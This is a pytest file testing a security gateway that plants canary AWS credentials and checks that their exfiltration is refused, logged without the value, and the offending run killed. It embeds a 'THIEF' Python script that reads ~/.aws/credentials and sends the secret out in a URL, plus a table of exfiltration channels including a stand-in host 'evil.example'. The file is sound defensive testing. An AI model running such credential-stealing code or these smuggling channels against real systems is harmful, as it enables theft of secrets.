"""A planted credential on its way out: refused before it is sent, whatever it is written as; the run ends, and the record has no value."""
import base64
import hashlib
import http.client
import http.server
import json
import os
import pathlib
import shutil
import signal
import sys
import tempfile
import threading
import time

import pytest

sys.path[:0] = [str(pathlib.Path(__file__).resolve().parent / "gateway"), str(pathlib.Path(__file__).resolve().parents[1]),
                str(pathlib.Path(__file__).resolve().parent)]
from tenant import Tenant  # noqa: E402
from test_tls_gateway import Server  # noqa: E402
from watchers import IS_ROOT, USER_ID, Post  # noqa: E402

VALUE = "Kd7sYq0a1BZk3wPq9x2CVt5mEr8uHy4jLo6nGi0b"
OTHER = "Qx1nVb7zLm4kTg9cWe2rYs6uPi8oAd3fHj5hKl0q"
NAME = "/home/box/.aws/credentials"


class Origin(http.server.BaseHTTPRequestHandler):
    """Notes all that comes; /go answers once it may."""
    protocol_version = "HTTP/1.1"

    def read_body(self):
        """All of it, in chunks or not: who answers before has answered a request that was not judged yet."""
        if self.headers.get("Transfer-Encoding") != "chunked":
            return self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = b""
        while size := int(self.rfile.readline() or b"0", 16):
            body += self.rfile.read(size)
            self.rfile.readline()
        self.rfile.readline()
        return body

    def do_GET(self):
        body = self.read_body()
        self.server.seen.append(f"{self.command} {self.path} {self.headers} {body.decode('latin-1')}")
        if self.path == "/go":
            self.server.asked.set()
            self.server.may_go.wait(20)
        self.send_response(200)
        self.send_header("Content-Length", "3")
        self.end_headers()
        self.wfile.write(b"ok\n")

    do_POST = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture
def origin():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Origin)
    server.seen, server.asked, server.may_go = [], threading.Event(), threading.Event()
    server.daemon_threads = True
    server.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.may_go.set()
    server.shutdown()
    server.server_close()


@pytest.fixture
def tenant(ringfort, origin):
    policy = {"version": 1, "network": {"allow": [f"GET,POST api.example:{origin.port}/**"],
                                        "hosts": {"api.example": f"127.0.0.1:{origin.port}"}}}
    with Tenant(str(pathlib.Path(ringfort).parent / "ringfort-gateway"), policy,
                canaries=[("/opt/app/.env", OTHER), (NAME, VALUE)]) as one:
        yield one


def ask(tenant, origin, method="GET", path="/", host="api.example", **more):
    line = http.client.HTTPConnection("127.0.0.1", tenant.proxy, timeout=20)
    try:
        line.request(method, f"http://{host}:{origin.port}{path}", **more)
        answer = line.getresponse()
        return answer.status, answer.getheader("X-Ringfort"), answer.read()
    except ConnectionError:  # a body that is still being sent is cut
        return 502, "cut", b""


FORMS = {"plain": VALUE, "base64": base64.b64encode(f"key={VALUE};".encode()).decode(), "hex": VALUE.encode().hex(),
         "HEX": VALUE.encode().hex().upper()}
WAYS = {
    "query": lambda form: {"path": f"/x?a=1&key={form}"},
    "path": lambda form: {"path": f"/x/{form}/y"},
    "field": lambda form: {"headers": {"X-Key": f"one {form}"}},
    "name": lambda form: {"headers": {f"X-{form}".replace("=", ""): "1"}},
    "cookie": lambda form: {"headers": {"Cookie": f"a=b; c={form}"}},
    "body": lambda form: {"method": "POST", "body": f"{{\"key\": \"{form}\"}}"},
    "long body": lambda form: {"method": "POST", "body": "x" * 400_000 + form + "y" * 50_000},
    "chunks": lambda form: {"method": "POST", "body": iter([b"x" * 9, form[:9].encode(), form[9:].encode(), b"y"]), "encode_chunked": True,
                            "headers": {"Transfer-Encoding": "chunked"}},
    "elsewhere": lambda form: {"host": "evil.example", "path": f"/{form}"},
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("form", FORMS)
def test_it_is_refused_in_every_place_and_form_and_told_without_its_value(tenant, origin, way, form):
    assert ask(tenant, origin, path="/before")[0] == 200
    status, code, said = ask(tenant, origin, **WAYS[way](FORMS[form]))
    assert status in (403, 502), (status, code, said)
    told = tenant.wait_for(lambda event: event["kind"] == "canary")
    assert (told["credential"], told["verdict"], told["rule"]) == (NAME, "denied", "files.canaries"), told
    assert ask(tenant, origin, path="/after")[:2] == (403, "canary")
    tenant.finish()
    for text in (VALUE, FORMS[form].strip("=")):
        assert not any(text in line for line in origin.seen), "it was sent"
        assert text not in json.dumps(tenant.events, default=str) and text not in said.decode()
    assert not any("/after" in line for line in origin.seen)


def test_what_only_resembles_it_passes(tenant, origin):
    for text in (VALUE[:-1], VALUE[1:], VALUE.lower(), VALUE[::-1]):
        assert ask(tenant, origin, "POST", f"/x?k={text}", body=text)[0] == 200
    tenant.poll(0.1)
    assert not [event for event in tenant.events if event["kind"] == "canary"]


# The launcher is stopped, so that it can't end the run for reading: what is left is the gateway.
THIEF = """
import ssl, sys, urllib.request
try:
    urllib.request.urlopen("http://api.example:{go}/go", timeout=30).read()
    value = open("{name}").read().split("aws_secret_access_key = ")[1].strip()
    urllib.request.urlopen("{url}?key=" + value, timeout=30).read()
except Exception as error:
    print(getattr(error, "code", error), value)
"""


@pytest.fixture
def post(ringfort, as_who, public):
    if as_who == "root" and not IS_ROOT:
        pytest.skip("needs root")
    top = pathlib.Path(tempfile.mkdtemp(prefix="canary-", dir=public))
    top.chmod(0o755)
    with Post(ringfort, as_who, top / "post") as there:
        yield there
    shutil.rmtree(top, ignore_errors=True)


@pytest.fixture(scope="module")
def secure():
    one = Server()
    yield one
    one.close()


def first_child_is_over(pid):
    children = pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    states = [pathlib.Path(f"/proc/{child}/stat").read_text().rsplit(")", 1)[1].split()[0] for child in children]
    return "Z" in states


@pytest.mark.parametrize("is_tls", [False, True], ids=["plain", "tls"])
def test_who_sends_one_is_ended_recorded_and_kept_from_starting_again(post, origin, secure, is_tls):
    post.stand()
    url = f"https://api.test:{secure.port}/x" if is_tls else f"http://api.example:{origin.port}/x"
    policy = post.top / "policy.yaml"
    policy.write_text(json.dumps({
        "version": 1, "agent": "bot", "files": {"canaries": ["~/.aws/credentials"]},
        "network": {"allow": [f"GET api.example:{origin.port}/**", f"GET api.test:{secure.port}/**"],
                    "hosts": {"api.example": f"127.0.0.1:{origin.port}", "api.test": f"127.0.0.1:{secure.port}"}}}))
    if IS_ROOT and post.who == "user":
        os.chown(policy, USER_ID, USER_ID)
    post.env["SSL_CERT_FILE"] = str(secure.root)
    before = len(secure.log())
    run = post.start("run", "--json", "--policy", policy, "--time", "60s", "--", "/usr/bin/python3", "-c",
                     THIEF.format(go=origin.port, name=NAME, url=url))
    try:
        assert origin.asked.wait(30)
        os.kill(run.pid, signal.SIGSTOP)
        origin.may_go.set()
        until = time.monotonic() + 30
        while not first_child_is_over(run.pid):
            assert time.monotonic() < until
            time.sleep(0.02)
    finally:
        os.kill(run.pid, signal.SIGCONT)
    out, err = run.communicate(timeout=30)
    result = json.loads(out)
    place = url.split("/")[2]
    assert result["status"] == "killed", (result, err)
    code, value = result["stdout"].split()
    assert code == "403" and len(value) == 40
    assert result["error"]["message"] == f"killed because it sent the canary {NAME} to {place}, which was refused"
    assert len(origin.seen) == 1 and len(secure.log()) == before, "it was sent"
    planted, = post.events("--kind", "credential")
    alarm, = post.events("--kind", "alarm")
    assert (alarm["alarm"], alarm["what"], alarm["credential"]) == ("canary", NAME, planted["credential"])
    assert alarm["reason"] == f"a planted credential was sent to {place}, and refused"
    refused = post.run("run", "--agent", "bot", "--", "true")
    assert refused.returncode == 126 and "canary: a planted credential was sent" in refused.stderr
    told = [one for one in post.events("--kind", "net") if one["what"] == "canary"]
    assert told and told[0]["decision"] == "deny" and told[0]["credential"] == NAME
    stored = b"".join(path.read_bytes() for path in post.log.iterdir() if path.is_file())
    assert hashlib.sha256(value.encode()).hexdigest() == planted["credential"] and value.encode() not in stored
